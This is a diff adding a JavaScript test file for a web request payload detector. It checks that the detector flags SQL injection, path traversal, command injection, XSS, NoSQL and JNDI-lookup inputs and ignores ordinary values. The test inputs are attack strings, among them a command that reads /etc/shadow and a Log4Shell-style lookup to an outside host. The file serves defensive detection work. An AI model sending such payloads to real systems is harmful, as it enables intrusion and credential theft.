@@ -1,0 +1,70 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the values under test are lookup and shell expressions, not templates
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { detectPayload, inspectRequest, parseQueryString } from './detect.js';
+import { MAX_EVIDENCE_CHARS } from './evidence.js';
+
+describe('detectPayload', () => {
+  test('one finding per class, with short neutralised evidence', () => {
+    const found = detectPayload("1' OR '1'='1 --\r\n", { key: 'id', location: 'query' });
+    assert.deepEqual(
+      found.map((f) => f.class),
+      ['sqli'],
+    );
+    const evidence = found[0]?.evidence ?? '';
+    assert.ok(evidence.length <= MAX_EVIDENCE_CHARS);
+    assert.ok(!/[\r\n]/.test(evidence));
+  });
+
+  test('a value can carry several classes', () => {
+    const classes = detectPayload('../../etc/passwd;cat /etc/shadow').map((f) => f.class);
+    assert.deepEqual(classes.sort(), ['cmdi', 'path_traversal']);
+  });
+
+  test('ordinary values find nothing', () => {
+    for (const value of [
+      'Jane Doe',
+      'jane.doe@example.com',
+      'search for red shoes',
+      '{"a":1,"b":[true,null]}',
+      'https://example.com/path?x=1',
+      'dGhpcyBpcyBhIHRva2Vu',
+      '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
+      '2024-05-01T10:00:00Z',
+      '',
+    ]) {
+      assert.deepEqual(detectPayload(value), [], value);
+    }
+  });
+});
+
+describe('parseQueryString', () => {
+  test('splits, decodes, keeps keys without values', () => {
+    assert.deepEqual(parseQueryString('a=1&b=x+y&c&d=%3Cb%3E'), [
+      ['a', '1'],
+      ['b', 'x y'],
+      ['c', ''],
+      ['d', '<b>'],
+    ]);
+  });
+});
+
+describe('inspectRequest', () => {
+  test('path, query keys and values, and inspected params, with locations', () => {
+    const result = inspectRequest({
+      path: '/files/..%2f..%2fetc/passwd',
+      query: 'q=%3Csvg%20onload%3Dalert(1)%3E&user[$ne]=x&page=2',
+      params: [
+        { location: 'header', key: 'user-agent', value: '${jndi:ldap://x.example/a}' },
+        { location: 'body', key: 'name', value: "O'Brien" },
+      ],
+    });
+    assert.deepEqual(result.classes, ['jndi', 'nosqli', 'path_traversal', 'xss']);
+    assert.deepEqual(result.locations, ['header.user-agent', 'path', 'query.q', 'query.user[$ne]']);
+  });
+
+  test('a clean request finds nothing', () => {
+    const result = inspectRequest({ path: '/api/v1/users/42', query: 'include=orders&sort=-created' });
+    assert.deepEqual(result, { classes: [], locations: [], findings: [] });
+  });
+});
